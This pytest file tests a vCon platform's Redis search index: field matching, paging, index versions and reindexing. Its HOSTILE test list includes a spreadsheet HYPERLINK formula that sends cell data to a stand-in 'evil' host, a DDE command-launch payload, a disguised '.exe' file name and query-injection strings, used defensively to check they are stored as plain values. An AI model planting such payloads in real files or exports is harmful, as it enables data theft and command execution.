"""Search: all that is asked must be true, right after the write, whatever people are called, page by page."""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import redis
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from redis import Redis
from redis.backoff import NoBackoff
from redis.retry import Retry

from tests.support import document_store
from vcon_platform.store import keys, search, search_index, search_refresh
from vcon_platform.store.commits import Created, NewVcon, created_seconds
from vcon_platform.store.connection import StoreUnavailable
from vcon_platform.store.paging import CursorRefused, Page, QueryRefused
from vcon_platform.store.search import SearchIndex, SearchTooSlow
from vcon_platform.store.search_fields import INPUTS, fields
from vcon_platform.store.search_query import MOST_WORDS, SearchQuery
from vcon_platform.store.search_text import token, words
from vcon_platform.vcon.document import Vcon
from vcon_platform.vcon.uuids import new_uuid

NOON = datetime(2026, 11, 2, 12, tzinfo=UTC)
META = {"adapter": "freeswitch", "state": "ready", "form": "unsigned"}


@pytest.fixture
def index(redis_client: Redis) -> SearchIndex:
    made = SearchIndex(redis_client)
    made.ensure()
    return made


def _data(at: datetime = NOON, **members: Any) -> dict[str, Any]:
    return {"uuid": new_uuid(), "created_at": at.isoformat(), **members}


def _keep(client: Redis, data: Mapping[str, Any], meta: Mapping[str, str] = META) -> str:
    """Write the hash, as the store's scripts do with the document."""
    uuid: str = data["uuid"]
    client.hset(keys.search(uuid), mapping=fields(data, meta))  # type: ignore[arg-type]
    client.zadd(keys.LISTING, {keys.document(uuid): created_seconds(data)})
    return uuid


def _said(text: str) -> list[dict[str, Any]]:
    return [{"type": "text", "start": NOON.isoformat(), "parties": 0, "body": text, "encoding": "none"}]


def _found(index: SearchIndex, **asked: Any) -> set[str]:
    return set(index.search(SearchQuery(**asked)).uuids)


def _pages(index: SearchIndex, query: SearchQuery) -> Iterator[Page]:
    while True:
        page = index.search(query)
        yield page
        if page.cursor is None:
            return
        query = replace(query, cursor=page.cursor)


def _all(index: SearchIndex, query: SearchQuery) -> list[str]:
    return [uuid for page in _pages(index, query) for uuid in page.uuids]


# --- what is found -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "asked",
    [
        {"tel": "+13125550142"},
        {"tel": "+1 (312) 555-0142"},
        {"tel": "13125550142"},
        {"tel": " 13125550142"},
        {"tel": "tel:+13125550142"},
        {"tel": "1001"},
        {"mailto": "ANN@example.com"},
        {"mailto": "mailto:ann@example.com"},
        {"name": "ANN  smith"},
        {"name_words": "smith"},
        {"name_words": "ann smith"},
        {"sip": "sip:ann@pbx.example"},
        {"sip": "sip:ann@PBX.example;transport=udp"},
        {"tag": "queue:Billing"},
        {"tag": "site:https://x.example/a?b"},
        {"analysis": "summary"},
        {"dialog": "recording"},
        {"adapter": "freeswitch"},
        {"state": "ready"},
        {"form": "unsigned"},
        {"signature": "valid"},
        {"text": "broken"},
        {"text": "scale BROKEN"},
        {"text": '"is quite broken"'},
        {"text": "\u201cquite broken\u201d scale"},
        {"text": "the"},
        {"text": "complaint"},
        {"text": "complaint broken"},
        {"created_from": NOON, "created_to": NOON + timedelta(milliseconds=1)},
        {"started_from": NOON - timedelta(hours=1), "started_to": NOON},
        {"tel": "1001", "text": "broken", "tag": "queue:billing", "created_from": NOON},
    ],
)
def test_a_vcon_is_found_by(index: SearchIndex, redis_client: Redis, asked: dict[str, Any]) -> None:
    uuid = _keep(
        redis_client,
        _data(
            subject="A complaint",
            parties=[
                {"tel": "+13125550142", "name": "Ann Smith", "mailto": "ann@example.com", "sip": "sip:ann@pbx.example"},
                {"tel": "1001", "name": "Bob Jones"},
            ],
            dialog=[
                {"type": "recording", "start": (NOON - timedelta(minutes=1)).isoformat()},
                *_said("The scale is quite broken!"),
            ],
            analysis=[{"type": "summary"}],
            attachments=[{"purpose": "tags", "body": ["queue:billing", "site:https://x.example/a?b"]}],
        ),
        {**META, "signature": "valid"},
    )
    _keep(redis_client, _data(NOON + timedelta(days=1)), {"adapter": "other", "state": "parked", "form": "signed"})
    assert _found(index, **asked) == {uuid}


@pytest.mark.parametrize(
    "asked",
    [
        {"tel": "+13125550142", "mailto": "nobody@example.com"},
        {"tel": "555"},
        {"tel": ""},
        {"name": "Ann"},
        {"name_words": "smith bob"},
        {"name_words": "ann jones"},
        {"name_words": "!"},
        {"tag": "queue"},
        {"text": "broken absent"},
        {"text": '"broken scale"'},
        {"text": "!!! \U0001f600"},
        {"text": ""},
        {"created_to": NOON},
        {"created_from": NOON + timedelta(milliseconds=1)},
        {"created_from": NOON, "created_to": NOON},
    ],
)
def test_nothing_is_found_where_one_condition_does_not_hold(
    index: SearchIndex, redis_client: Redis, asked: dict[str, Any]
) -> None:
    parties = [{"tel": "+13125550142", "name": "Ann Smith"}, {"name": "Bob Jones"}]
    tags = [{"purpose": "tags", "body": ["queue:billing"]}]
    _keep(redis_client, _data(parties=parties, dialog=_said("The scale is broken"), attachments=tags))
    assert index.search(SearchQuery(**asked)) == Page((), None, 0)


def test_a_question_without_conditions_finds_all(index: SearchIndex, redis_client: Redis) -> None:
    kept = {_keep(redis_client, _data()) for _ in range(3)}
    assert _found(index) == kept


def test_a_national_number_is_found_by_its_international_form(redis_client: Redis) -> None:
    index = SearchIndex(redis_client, region="US")
    index.ensure()
    uuid = _keep(redis_client, _data(parties=[{"tel": "3125550142"}]))
    assert _found(index, tel="+13125550142") == {uuid}


def test_an_international_number_is_found_by_its_national_form(redis_client: Redis) -> None:
    index = SearchIndex(redis_client, region="US")
    index.ensure()
    uuid = _keep(redis_client, _data(parties=[{"tel": "+13125550142"}]))
    assert _found(index, tel="(312) 555-0142") == {uuid}


def test_a_number_with_an_extension_does_not_find_everybodys_extension(index: SearchIndex, redis_client: Redis) -> None:
    _keep(redis_client, _data(parties=[{"tel": "77"}]))
    assert _found(index, tel="+13125550142;ext=77") == set()


def test_a_changed_vcon_is_found_by_what_it_is_now(index: SearchIndex, redis_client: Redis) -> None:
    data = _data(parties=[{"name": "Ann"}])
    _keep(redis_client, data)
    uuid = _keep(redis_client, {**data, "parties": [{"name": "Bob"}]})
    assert (_found(index, name="Bob"), _found(index, name="Ann")) == ({uuid}, set())


def test_a_vcon_whose_document_left_redis_is_found(index: SearchIndex, redis_client: Redis) -> None:
    data = _data(parties=[{"name": "Ann"}])
    redis_client.json().set(keys.document(data["uuid"]), "$", data)
    uuid = _keep(redis_client, data)
    redis_client.delete(keys.document(uuid))
    assert _found(index, name="Ann") == {uuid}


def test_what_the_store_writes_is_found_by_the_next_question(
    index: SearchIndex, redis_client: Redis, tmp_path: Path
) -> None:
    store = document_store(redis_client, tmp_path)
    for number in range(30):
        vcon = Vcon(_data(parties=[{"name": f"Ann {number}"}], dialog=[], analysis=[], attachments=[]))
        assert list(store.create([NewVcon(vcon, meta=META)])) == [(vcon.uuid, Created.CREATED)]
        assert _found(index, name=f"ann {number}") == {vcon.uuid}
        store.update(vcon.uuid, partial(Vcon.append, array="analysis", value={"type": f"kind {number}"}))
        assert _found(index, name=f"ann {number}", analysis=f"kind {number}") == {vcon.uuid}


# --- whatever people are called ------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\u202egnp.exe",
    "Al\u200bice",
    "*",
    "a*",
    "w'*'",
    "{a|b}",
    "@name:{x}",
    "$p0",
    "-a ~b (c|d) [1 2]",
    "back\\slash\\",
    "\\:",
    "\\\\*",
    "nul\x00byte",
    "\x1f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u6771\u4eac",
    "long " * 1000,
]
_ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40) | st.text(
    "*|{}()[]\"'\\@$%~-=:;,.?!<> ab", min_size=1, max_size=12
)


@given(_ANY_TEXT)
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@example(HOSTILE[0])
@example(HOSTILE[-1])
def test_any_name_finds_its_own_vcon(index: SearchIndex, redis_client: Redis, name: str) -> None:
    uuid = _keep(redis_client, _data(parties=[{"name": name}]))
    other = _keep(redis_client, _data(parties=[{"name": f"{name}x"}]))
    try:
        assert _found(index, name=name) == ({uuid} if token(name) else set())
    finally:
        redis_client.delete(keys.search(uuid), keys.search(other))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_value_is_a_value(index: SearchIndex, redis_client: Redis, value: str) -> None:
    data = _data(
        parties=[{"name": value, "tel": value[:40], "mailto": value}],
        dialog=_said(value),
        analysis=[{"type": value}],
        attachments=[{"purpose": "tags", "body": [f"k:{value}"]}],
        subject=value,
    )
    uuid = _keep(redis_client, data)
    _keep(redis_client, _data(parties=[{"name": "a b x"}], analysis=[{"type": "a"}]))
    expected = {uuid} if token(value) else set()
    assert _found(index, name=value) == expected
    assert _found(index, mailto=value) == expected
    assert _found(index, analysis=value) == expected
    assert _found(index, tel=value[:40]) == expected
    assert _found(index, tag=f"k:{value}") == {uuid}
    short = value[:80]
    assert _found(index, text=short) == ({uuid} if words(short) else set())


@given(_ANY_TEXT)
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_finds_the_conversation_it_is_from(index: SearchIndex, redis_client: Redis, text: str) -> None:
    uuid = _keep(redis_client, _data(dialog=_said(f"before {text} after")))
    other = _keep(redis_client, _data(dialog=_said("quokkas zzyzx")))  # no text that is drawn says that
    try:
        assert _found(index, text=text) == ({uuid} if words(text) else set())
        quoted = text.replace('"', " ")
        assert _found(index, text=f'"before {quoted} after"') >= ({uuid} if quoted == text else set())
    finally:
        redis_client.delete(keys.search(uuid), keys.search(other))


@given(st.text(max_size=60), st.text(st.characters(exclude_categories=()), max_size=30))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_question_raises(index: SearchIndex, text: str, value: str) -> None:
    for name in ("tel", "mailto", "name", "name_words", "sip", "tag", "analysis", "dialog", "adapter", "state", "text"):
        asked: dict[str, Any] = {"text": text, "tag": value, name: value}
        assert index.search(SearchQuery(**asked)).uuids == ()


def test_too_many_words_are_refused(index: SearchIndex) -> None:
    with pytest.raises(QueryRefused, match="text"):
        index.search(SearchQuery(text=" ".join(f"w{number}" for number in range(MOST_WORDS + 1))))


@pytest.mark.parametrize("limit", [0, -1, 1001])
def test_a_page_of_no_sensible_size_is_refused(index: SearchIndex, limit: int) -> None:
    with pytest.raises(QueryRefused, match="limit"):
        index.search(SearchQuery(limit=limit))


def test_a_time_without_a_zone_is_refused(index: SearchIndex) -> None:
    with pytest.raises(QueryRefused, match="zone"):
        index.search(SearchQuery(created_from=NOON.replace(tzinfo=None)))


# --- pages ---------------------------------------------------------------------------------------------------------


def _expected(kept: Sequence[Mapping[str, Any]]) -> list[str]:
    by_uuid = sorted(kept, key=lambda data: str(data["uuid"]))
    return [str(data["uuid"]) for data in sorted(by_uuid, key=lambda data: str(data["created_at"]), reverse=True)]


@pytest.fixture(params=["sorted as a whole", "by stretches of time"])
def _both_ways(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    if request.param == "by stretches of time":
        monkeypatch.setattr(search, "FEW", 0)
        monkeypatch.setattr(search, "ROOM", 1)


@pytest.mark.usefixtures("_both_ways")
@pytest.mark.parametrize("limit", [1, 7, 60, 1000])
@pytest.mark.parametrize("moments", [1, 3, 1000])
def test_pages_hold_everything_once_newest_first(
    index: SearchIndex, redis_client: Redis, limit: int, moments: int
) -> None:
    chance = random.Random(limit)
    kept = [_data(NOON + timedelta(milliseconds=chance.randrange(moments)), dialog=_said("hello")) for _ in range(60)]
    for data in kept:
        _keep(redis_client, data)
    assert _all(index, SearchQuery(text="hello", limit=limit)) == _expected(kept)
    assert {page.total for page in _pages(index, SearchQuery(text="hello", limit=limit))} == {60}


@pytest.mark.usefixtures("_both_ways")
def test_pages_within_a_stretch_of_time_hold_all_of_it_once(index: SearchIndex, redis_client: Redis) -> None:
    kept = [_data(NOON + timedelta(milliseconds=number // 3)) for number in range(60)]
    for data in kept:
        _keep(redis_client, data)
    first, end = NOON + timedelta(milliseconds=5), NOON + timedelta(milliseconds=15)
    inside = [data for data in kept if first.isoformat() <= data["created_at"] < end.isoformat()]
    assert _all(index, SearchQuery(created_from=first, created_to=end, limit=4)) == _expected(inside)


@pytest.mark.usefixtures("_both_ways")
def test_vcons_that_come_and_go_between_pages_move_no_other(index: SearchIndex, redis_client: Redis) -> None:
    chance = random.Random(7)
    kept = [_data(NOON + timedelta(milliseconds=chance.randrange(10))) for _ in range(80)]
    for data in kept:
        _keep(redis_client, data)
    gone: set[str] = set()
    seen: list[str] = []
    for page in _pages(index, SearchQuery(limit=9)):
        seen += page.uuids
        _keep(redis_client, _data(NOON + timedelta(hours=1)))
        _keep(redis_client, _data(NOON - timedelta(days=1) if len(seen) > 70 else NOON + timedelta(hours=2)))
        victim = page.uuids[-1]  # the very one that the cursor names
        redis_client.delete(keys.search(victim))
        gone.add(victim)
    assert [uuid for uuid in seen if uuid in set(_expected(kept))] == _expected(kept)
    assert len(seen) == len(set(seen))


def test_the_last_page_has_no_cursor(index: SearchIndex, redis_client: Redis) -> None:
    for _ in range(4):
        _keep(redis_client, _data())
    assert [page.cursor is None for page in _pages(index, SearchQuery(limit=2))] == [False, True]


@pytest.mark.parametrize(
    "cursor", ["", "x", "\u00e4", "W10", "a" * 1000, "WyJzIiwxLCInIl0", "WyJsIiwxLCJhIl0", "W251bGxd"]
)
def test_what_is_no_cursor_is_refused(index: SearchIndex, cursor: str) -> None:
    with pytest.raises(CursorRefused):
        index.search(SearchQuery(cursor=cursor))


def test_a_cursor_tells_nothing_of_the_question(index: SearchIndex, redis_client: Redis) -> None:
    for _ in range(2):
        _keep(redis_client, _data(parties=[{"name": "Ann"}]))
    here, there = (index.search(SearchQuery(name=name, limit=1)).cursor for name in ("Ann", None))
    assert here == there


def test_an_old_connection_protocol_gives_the_same(redis_url: str, redis_client: Redis, index: SearchIndex) -> None:
    kept = [_data(NOON + timedelta(milliseconds=number // 2), dialog=_said("hi")) for number in range(9)]
    for data in kept:
        _keep(redis_client, data)
    with redis.Redis.from_url(redis_url, protocol=2) as client:
        assert _all(SearchIndex(client), SearchQuery(text="hi", limit=2)) == _expected(kept)


# --- the index -----------------------------------------------------------------------------------------------------


def test_the_first_question_makes_the_index(redis_client: Redis) -> None:
    uuid = _keep(redis_client, _data())
    assert index_answers(redis_client) is None
    assert SearchIndex(redis_client, wait=30).search(SearchQuery()) == Page((uuid,), None, 1)


def index_answers(client: Redis) -> str | None:
    state = search_index.state(client)
    return state.name if state else None


def test_making_the_index_again_changes_nothing(index: SearchIndex, redis_client: Redis) -> None:
    uuid = _keep(redis_client, _data())
    assert index.ensure() == index.ensure()
    assert _found(index) == {uuid}


def test_a_new_version_takes_the_place_of_the_old_one(
    index: SearchIndex, redis_client: Redis, monkeypatch: pytest.MonkeyPatch
) -> None:
    uuid = _keep(redis_client, _data())
    monkeypatch.setattr(search_index, "INPUTS", INPUTS + 1)
    monkeypatch.setattr(search_index, "NAME", f"vcons:{INPUTS + 1}:0000")
    assert index.ensure().name == search_index.NAME
    assert redis_client.execute_command("FT._LIST") == [search_index.NAME.encode()]  # type: ignore[no-untyped-call]
    assert _found(index) == {uuid}


def test_an_older_process_leaves_the_newer_index_in_its_place(index: SearchIndex, redis_client: Redis) -> None:
    newer = "vcons:999:0000"
    redis_client.execute_command("FT.CREATE", newer, *search_index.SCHEMA)  # type: ignore[no-untyped-call]
    redis_client.execute_command("FT.ALIASUPDATE", "vcons", newer)  # type: ignore[no-untyped-call]
    assert index.ensure().name == newer
    assert index_answers(redis_client) == newer


def test_the_old_version_answers_until_the_new_one_is_complete(
    index: SearchIndex, redis_client: Redis, monkeypatch: pytest.MonkeyPatch
) -> None:
    uuid = _keep(redis_client, _data())
    old = search_index.NAME
    monkeypatch.setattr(search_index, "INPUTS", INPUTS + 1)
    monkeypatch.setattr(search_index, "NAME", f"vcons:{INPUTS + 1}:0000")
    with monkeypatch.context() as patch:
        patch.setattr(search_index, "_busy", lambda found: found["index_name"] != old.encode())
        assert index.ensure(wait=0).name == old
        assert index.search(SearchQuery()) == Page((uuid,), None, 1)
    assert index.ensure().name == search_index.NAME


def test_a_page_says_that_the_index_is_being_built(redis_client: Redis, monkeypatch: pytest.MonkeyPatch) -> None:
    index = SearchIndex(redis_client, wait=0)
    index.ensure()
    uuid = _keep(redis_client, _data())
    monkeypatch.setattr(search_index, "_busy", lambda _: True)
    assert index.search(SearchQuery()) == Page((uuid,), None, 1, complete=False)


def test_many_processes_may_make_the_index_at_once(redis_url: str, redis_client: Redis) -> None:
    for number in range(2_000):
        redis_client.hset(keys.search(f"u{number}"), mapping={"uuid": f"u{number}", "created": number, "v": INPUTS})
    redis_client.execute_command("FT.CREATE", "vcons:0:0000", *search_index.SCHEMA)  # type: ignore[no-untyped-call]
    redis_client.execute_command("FT.ALIASADD", "vcons", "vcons:0:0000")  # type: ignore[no-untyped-call]

    def make(_: int) -> tuple[str, int]:
        with redis.Redis.from_url(redis_url) as client:
            state = SearchIndex(client).ensure()
            return state.name, SearchIndex(client).search(SearchQuery()).total

    with ThreadPoolExecutor(8) as pool:
        assert set(pool.map(make, range(16))) == {(search_index.NAME, 2_000)}


def test_a_redis_that_is_away_is_told_with_the_cure() -> None:
    with (
        redis.Redis(port=1, retry=Retry(NoBackoff(), 0)) as client,
        pytest.raises(StoreUnavailable, match="vcon-platform up"),
    ):
        SearchIndex(client).search(SearchQuery())


def _many(client: Redis) -> None:
    pipeline = client.pipeline(transaction=False)
    for number in range(20_000):
        made: dict[Any, Any] = {
            "uuid": f"u{number}",
            "created": number,
            "v": INPUTS,
            "text": "one two one",
        }
        pipeline.hset(keys.search(f"u{number}"), mapping=made)
    pipeline.execute()


def test_a_search_that_runs_out_of_time_is_no_page(
    index: SearchIndex, redis_client: Redis, monkeypatch: pytest.MonkeyPatch
) -> None:
    _many(redis_client)
    monkeypatch.setattr(search, "SLOWEST", 1)
    monkeypatch.setattr(search, "FEW", 10**9)
    with pytest.raises(SearchTooSlow, match="shorter time"):
        index.search(SearchQuery())


def test_a_total_that_takes_too_long_to_count_is_a_lower_bound(
    index: SearchIndex, redis_client: Redis, monkeypatch: pytest.MonkeyPatch
) -> None:
    _many(redis_client)
    monkeypatch.setattr(search, "COUNTING", 1)
    page = index.search(SearchQuery(text='"one two"', limit=3))
    assert (page.uuids, page.exact) == (("u19999", "u19998", "u19997"), False)
    assert 3 <= page.total < 20_000


def test_the_schema_is_the_one_of_its_version() -> None:
    """If this fails you changed the schema: raise ``search_fields.INPUTS`` and write the new name here."""
    assert search_index.NAME == "vcons:1:e51d6006"


# --- making the hashes again ---------------------------------------------------------------------------------------


class _Store:
    """Documents with their revisions, as ``DocumentStore.read`` gives them."""

    def __init__(self, client: Redis) -> None:
        self._client = client
        self.documents: dict[str, Vcon] = {}

    def add(self, data: dict[str, Any], revision: int = 1) -> str:
        uuid: str = data["uuid"]
        self.documents[uuid] = Vcon(data, revision)
        self._client.hset(keys.meta(uuid), mapping={"revision": str(revision), **META})  # type: ignore[dict-item]
        return uuid

    def read(self, uuids: Sequence[str]) -> dict[str, Vcon]:
        return {uuid: self.documents[uuid] for uuid in uuids if uuid in self.documents}


@pytest.fixture
def store(redis_client: Redis) -> _Store:
    return _Store(redis_client)


def test_hashes_of_an_older_version_are_made_again(index: SearchIndex, redis_client: Redis, store: _Store) -> None:
    uuid = store.add(_data(parties=[{"name": "Ann"}]))
    redis_client.hset(keys.search(uuid), mapping={"v": 0, "uuid": uuid, "created": 5, "name": "old", "past": "x"})
    assert index.search(SearchQuery()).complete is False
    assert index.reindex(store.read) == search_refresh.Refreshed(written=1, gone=0, left=0)
    assert index.search(SearchQuery(name="ann")) == Page((uuid,), None, 1)
    assert not redis_client.hexists(keys.search(uuid), "past")


def test_hashes_of_this_version_are_left_alone(index: SearchIndex, redis_client: Redis, store: _Store) -> None:
    data = _data()
    store.add(data)
    _keep(redis_client, data)
    assert index.reindex(store.read) == search_refresh.Refreshed(0, 0, 0)


def test_a_lost_hash_is_made_and_listed_again_when_asked_for(
    index: SearchIndex, redis_client: Redis, store: _Store
) -> None:
    uuid = store.add(_data())
    assert index.reindex(store.read, [uuid]).written == 1
    assert _found(index) == {uuid}
    assert redis_client.zscore(keys.LISTING, keys.document(uuid)) == NOON.timestamp()


def test_a_hash_without_a_document_goes(index: SearchIndex, redis_client: Redis, store: _Store) -> None:
    redis_client.hset(keys.search("u"), mapping={"v": 0, "uuid": "u"})
    assert index.reindex(store.read).gone == 1
    assert not redis_client.exists(keys.search("u"))


def test_a_hash_is_not_made_from_a_revision_that_is_past(
    index: SearchIndex, redis_client: Redis, store: _Store
) -> None:
    data = _data(parties=[{"name": "Old"}])
    uuid = store.add(data)
    redis_client.hset(keys.meta(uuid), "revision", 2)
    _keep(redis_client, {**data, "parties": [{"name": "New"}]})
    assert index.reindex(store.read, [uuid]) == search_refresh.Refreshed(0, 0, left=1)
    assert _found(index, name="New") == {uuid}


def test_a_revision_that_is_made_meanwhile_is_read_again(
    index: SearchIndex, redis_client: Redis, store: _Store
) -> None:
    uuid = store.add(_data(parties=[{"name": "Old"}]))

    def read(uuids: Sequence[str]) -> dict[str, Vcon]:
        found = store.read(uuids)
        if found[uuid].revision == 1:
            store.add({**found[uuid].data, "parties": [{"name": "New"}]}, revision=2)
        return found

    assert index.reindex(read, [uuid]).written == 1
    assert _found(index, name="New") == {uuid}
